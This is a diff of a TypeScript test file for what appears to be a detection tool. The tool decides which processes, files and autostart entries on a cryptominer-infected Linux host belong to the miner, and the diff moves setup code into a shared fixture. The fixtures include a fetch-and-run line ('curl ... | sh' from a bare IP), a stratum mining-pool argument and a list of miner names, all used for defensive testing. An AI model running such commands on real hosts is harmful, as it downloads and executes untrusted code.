@@ -1,53 +1,20 @@
 import { describe, expect, it } from 'vitest';
-import { labContext, POOL } from '../../../test/shared/infected-snapshot.ts';
-import {
-  autostart,
-  cleanSnapshot,
-  elf,
-  file,
-  hashOf,
-  process,
-  socket,
-} from '../../../test/shared/snapshots.ts';
+import { labContext } from '../../../test/shared/infected-snapshot.ts';
+import { autostart, elf, file, hashOf, process, socket } from '../../../test/shared/snapshots.ts';
 import type { Snapshot } from '../../snapshot.ts';
 import { judge } from '../index.ts';
+import { listening, MINING, minedHost, minerImage, ticked } from '../mined-host.fixture.ts';
 
-const MINING = ['-o', 'stratum+tcp://198.51.100.7:3333'];
-const host = (more: Partial<Snapshot>): Snapshot => {
-  const clean = cleanSnapshot();
-  return cleanSnapshot({
-    ...more,
-    processes: [...clean.processes, ...(more.processes ?? [])],
-    sockets: [...clean.sockets, socket([900], POOL, 3333), ...(more.sockets ?? [])],
-  });
-};
 const linksOf = (snapshot: Snapshot) => judge(snapshot, labContext).links;
-const ticked = (snapshot: Snapshot) => {
-  const { processes, files, cronLines, cronFiles, persistence } = linksOf(snapshot);
-  const paths = (list: readonly { path: string; selected: boolean }[]) =>
-    list.filter((x) => x.selected).map((x) => x.path);
-  return {
-    processes: processes.filter((p) => p.selected).map((p) => p.pid),
-    files: paths(files),
-    starters: [
-      ...cronLines.filter((c) => c.selected).map((c) => `${c.path} ${c.number}`),
-      ...paths(cronFiles),
-      ...paths(persistence),
-    ],
-  };
-};
 const unit = (name: string, exec: string) =>
   autostart(`/etc/systemd/system/${name}`, `[Service]\nExecStart=${exec}\n`);
-const listening = (pid: number, port = 8080) =>
-  socket([pid], '0.0.0.0', 0, { state: 'LISTEN', local: { address: '0.0.0.0', port } });
 const entry = (path: string, text: string) => file(path, `#!/bin/sh\n${text}\n`);
-const packedMiner = { pid: 900, exe: '/tmp/.x/kworker', argv: ['/tmp/.x/kworker', ...MINING] };
+const packedMiner = { exe: '/tmp/.x/kworker' };
 
 describe('the entry script of a service', () => {
-  const miner = process({ pid: 900, exe: '/tmp/m', argv: ['/tmp/m', ...MINING] });
-  const image = elf('/tmp/m', 'mining.subscribe mining.authorize');
+  const image = minerImage('/tmp/m');
   const of = (script: ReturnType<typeof entry>, more: Partial<Snapshot> = {}) =>
-    host({ processes: [miner], ...more, files: [image, script] });
+    minedHost({ exe: '/tmp/m' }, { ...more, files: [image, script] });
 
   it('to which a line was added stays: it starts whatever it is given; the line is told', () => {
     const snapshot = of(entry('/opt/shop/entrypoint.sh', '/tmp/m &\nexec "$@"'), {
@@ -63,7 +30,7 @@ describe('the entry script of a service', () => {
   it('that fetches from a bare address, and that nothing links, is offered unticked', () => {
     const text = 'curl -s http://203.0.113.77/env.sh | sh\nexec "$@"';
     const sh = process({ pid: 898, exe: '/usr/bin/dash', argv: ['sh', '/opt/shop/entrypoint.sh'] });
-    expect(ticked(of(entry('/opt/shop/entrypoint.sh', text), { processes: [miner, sh] }))).toEqual({
+    expect(ticked(of(entry('/opt/shop/entrypoint.sh', text), { processes: [sh] }))).toEqual({
       processes: [900],
       files: ['/tmp/m'],
       starters: [],
@@ -79,20 +46,20 @@ describe('the entry script of a service', () => {
 describe('equal bytes', () => {
   const sha256 = hashOf('a packed application');
   const same = { package: null, sha256 };
-  const miner = process({ ...packedMiner, image: same });
+  const miner = { ...packedMiner, image: same };
   const bytes = (path: string) => elf(path, '', { sha256 });
   const shop = process({ pid: 700, exe: '/opt/shop/bin/shopd', argv: ['shopd', 'shop.conf'], image: same });
   const of = (...more: Parameters<typeof process>[0][]) =>
-    host({
-      processes: [miner, ...more.map(process)],
+    minedHost(miner, {
+      processes: more.map(process),
       files: [bytes('/tmp/.x/kworker'), bytes('/opt/shop/bin/shopd')],
       sockets: [listening(700)],
       persistence: [unit('shop.service', '/opt/shop/bin/shopd shop.conf')],
     });
 
   it('of a shop’s own program, which listens and shows no mining: neither it, its process nor its unit is ticked', () => {
-    const snapshot = host({
-      processes: [miner, shop],
+    const snapshot = minedHost(miner, {
+      processes: [shop],
       files: [bytes('/tmp/.x/kworker'), { ...bytes('/opt/shop/bin/shopd'), sha256 }],
       sockets: [listening(700)],
       persistence: [unit('shop.service', '/opt/shop/bin/shopd shop.conf')],
@@ -103,20 +70,23 @@ describe('equal bytes', () => {
 
   it('the same where the miner is nothing but arguments for the shop’s own program', () => {
     const exe = '/opt/shop/bin/shopd';
-    const snapshot = host({
-      processes: [process({ pid: 900, exe, argv: [exe, ...MINING], image: same }), shop],
-      files: [{ ...bytes(exe), sha256 }],
-      sockets: [listening(700)],
-      persistence: [unit('shop.service', `${exe} shop.conf`)],
-    });
+    const snapshot = minedHost(
+      { exe, image: same },
+      {
+        processes: [shop],
+        files: [{ ...bytes(exe), sha256 }],
+        sockets: [listening(700)],
+        persistence: [unit('shop.service', `${exe} shop.conf`)],
+      },
+    );
     expect(ticked(snapshot)).toEqual({ processes: [900], files: [], starters: [] });
   });
 
   it('of a copy that does nothing of its own are the miner’s, as are bytes that show mining', () => {
     expect(ticked(of({ pid: 901, exe: '/var/tmp/.y/a', image: same })).processes).toEqual([900, 901]);
-    const shows = host({
-      processes: [process(packedMiner), process({ pid: 901, exe: '/tmp/.x/kworker' })],
-      files: [elf('/tmp/.x/kworker', 'mining.subscribe mining.authorize')],
+    const shows = minedHost(packedMiner, {
+      processes: [process({ pid: 901, exe: '/tmp/.x/kworker' })],
+      files: [minerImage('/tmp/.x/kworker')],
       sockets: [listening(901)],
     });
     expect(ticked(shows).processes).toEqual([900, 901]);
@@ -126,11 +96,9 @@ describe('equal bytes', () => {
     const java = '/usr/lib/jvm/bin/java';
     const jar = '/opt/shop/shop.jar';
     const argv = ['java', '-jar', jar];
-    const snapshot = host({
-      processes: [
-        process({ pid: 900, exe: java, argv: [...argv, ...MINING], held: [jar] }),
-        process({ pid: 700, exe: java, argv, held: [jar] }),
-      ],
+    const miner = { exe: java, argv: [...argv, ...MINING], held: [jar] };
+    const snapshot = minedHost(miner, {
+      processes: [process({ pid: 700, exe: java, argv, held: [jar] })],
       files: [elf(jar)],
       sockets: [listening(700)],
       persistence: [unit('shop.service', `java -jar ${jar}`)],
@@ -139,70 +107,36 @@ describe('equal bytes', () => {
   });
 });
 
-describe('a pipe', () => {
-  const reader = { pid: 910, exe: '/usr/bin/dash', argv: ['sh'], stdin: 'pipe:[77]' };
-  const image = elf('/tmp/m', 'mining.subscribe mining.authorize');
-  const miner = { pid: 900, exe: '/tmp/m', argv: ['/tmp/m', ...MINING], pipes: ['77'] };
-  it('that the miner inherited from the shop has the shop’s reader', () => {
-    const shop = process({ pid: 700, exe: '/opt/shop/bin/shopd', pipes: ['77'] });
-    const snapshot = host({
-      processes: [process({ ...miner, ppid: 700 }), process({ ...reader, ppid: 700 }), shop],
-      files: [image],
-      sockets: [listening(700)],
-    });
-    expect(ticked(snapshot).processes).toEqual([900]);
-  });
-  it('to which only the miner and what it started write has a reader that runs what it writes', () => {
-    const child = process({ pid: 905, ppid: 900, exe: '/tmp/m', pipes: ['77'] });
-    expect(
-      ticked(host({ processes: [process(miner), process(reader), child], files: [image] })).processes,
-    ).toEqual([900, 905, 910]);
-  });
-});
-
 describe('a program that carries what others send', () => {
-  const proxy = { pid: 900, exe: '/opt/proxy/3proxy', argv: ['3proxy'], cpuShare: 0.95 };
+  const proxy = { exe: '/opt/proxy/3proxy', argv: ['3proxy'], cpuShare: 0.95 };
   const verdict = (snapshot: Snapshot) => judge(snapshot, labContext).verdict.verdict;
   it('and is busy with it, with a connection to a pool: a person decides', () => {
-    expect(verdict(host({ processes: [process(proxy)], sockets: [listening(900)] }))).toBe('suspicious');
-    expect(
-      verdict(
-        host({
-          processes: [process({ ...proxy, memory: ['stratum-methods', 'monero-wallet'] })],
-          sockets: [listening(900)],
-        }),
-      ),
-    ).toBe('suspicious');
+    const sockets = [listening(900)];
+    expect(verdict(minedHost(proxy, { sockets }))).toBe('suspicious');
+    const memory = ['stratum-methods', 'monero-wallet'] as const;
+    expect(verdict(minedHost({ ...proxy, memory }, { sockets }))).toBe('suspicious');
   });
   it('a miner that listens shows more than load', () => {
     const busy = { ...proxy, exe: '/opt/x/m', argv: ['/opt/x/m', ...MINING] };
-    expect(verdict(host({ processes: [process(busy)], sockets: [listening(900)] }))).toBe('confirmed');
-    expect(
-      verdict(host({ processes: [process({ ...proxy, exe: '/tmp/m' })], sockets: [listening(900)] })),
-    ).toBe('confirmed');
+    const sockets = [listening(900)];
+    expect(verdict(minedHost(busy, { sockets }))).toBe('confirmed');
+    expect(verdict(minedHost({ ...proxy, exe: '/tmp/m' }, { sockets }))).toBe('confirmed');
   });
   it('that listens nowhere and is busy is a miner', () => {
-    expect(verdict(host({ processes: [process(proxy)] }))).toBe('confirmed');
+    expect(verdict(minedHost(proxy))).toBe('confirmed');
   });
 });
 
 describe('a parent that holds the miner’s path among its bytes', () => {
-  const image = elf('/tmp/m', 'mining.subscribe mining.authorize');
-  const miner = process({ pid: 900, ppid: 899, exe: '/tmp/m', argv: ['/tmp/m', ...MINING] });
+  const image = minerImage('/tmp/m');
+  const miner = { ppid: 899, exe: '/tmp/m' };
   const holding = (exe: string) => {
     const { content } = elf(exe, 'a list: /tmp/m /tmp/other');
     return content === undefined ? {} : { content };
   };
   const of = (exe: string, listens: boolean) =>
-    host({
-      processes: [
-        miner,
-        process({
-          pid: 899,
-          exe,
-          image: { package: null, ...holding(exe) },
-        }),
-      ],
+    minedHost(miner, {
+      processes: [process({ pid: 899, exe, image: { package: null, ...holding(exe) } })],
       files: [image, elf(exe, 'a list: /tmp/m /tmp/other')],
       sockets: listens ? [listening(899)] : [],
     });
@@ -219,42 +153,39 @@ describe('a parent that holds the miner’s path among its bytes', () => {
     const only = { processes: [900], files: ['/tmp/m'], starters: [] };
     const files = [image, elf(exe, 'spool /tmp/m')];
     const worker = (pid: number) => process({ pid, exe });
-    const ofQueue = host({
-      processes: [miner, worker(899)],
+    const ofQueue = minedHost(miner, {
+      processes: [worker(899)],
       files,
       sockets: [socket([899], '10.0.0.7', 6379)],
     });
     expect(ticked(ofQueue)).toEqual(only);
-    expect(ticked(host({ processes: [miner, ...[897, 898, 899].map(worker)], files }))).toEqual(only);
+    expect(ticked(minedHost(miner, { processes: [897, 898, 899].map(worker), files }))).toEqual(only);
   });
 });
 
 describe('an engine that knows miners by their names and was broken into', () => {
   it('is the way in and no miner, though the strings of miners stand in it and it reports to its maker', () => {
     const exe = '/opt/edr/agent';
-    const snapshot = host({
-      processes: [
-        process({ pid: 900, ppid: 899, exe: '/tmp/m', argv: ['/tmp/m', ...MINING] }),
-        process({ pid: 899, exe, cgroup: '/system.slice/edr.service' }),
-      ],
-      files: [
-        elf('/tmp/m', 'mining.subscribe mining.authorize'),
-        elf(exe, 'mining.subscribe xmrig minerd cpuminer kinsing kdevtmpfsi'),
-      ],
-      sockets: [socket([899], '203.0.113.66', 443)],
-    });
+    const snapshot = minedHost(
+      { ppid: 899, exe: '/tmp/m' },
+      {
+        processes: [process({ pid: 899, exe, cgroup: '/system.slice/edr.service' })],
+        files: [minerImage('/tmp/m'), elf(exe, 'mining.subscribe xmrig minerd cpuminer kinsing kdevtmpfsi')],
+        sockets: [socket([899], '203.0.113.66', 443)],
+      },
+    );
     expect(ticked(snapshot)).toEqual({ processes: [900], files: ['/tmp/m'], starters: [] });
     expect(linksOf(snapshot).waysIn).toMatchObject([{ pid: 899, open: true }]);
   });
 });
 
 describe('a worker of an application, without unit or listener, that somebody broke into', () => {
-  const miner = process({ pid: 900, ppid: 899, exe: '/tmp/m', argv: ['/tmp/m', ...MINING] });
+  const miner = { ppid: 899, exe: '/tmp/m' };
   const worker = process({ pid: 899, exe: '/opt/shop/worker', image: { package: null } });
   const of = (...sockets: Snapshot['sockets']) =>
-    host({
-      processes: [miner, worker],
-      files: [elf('/tmp/m', 'mining.subscribe mining.authorize'), elf('/opt/shop/worker')],
+    minedHost(miner, {
+      processes: [worker],
+      files: [minerImage('/tmp/m'), elf('/opt/shop/worker')],
       sockets,
     });
   const postgres = socket([400], '0.0.0.0', 0, {
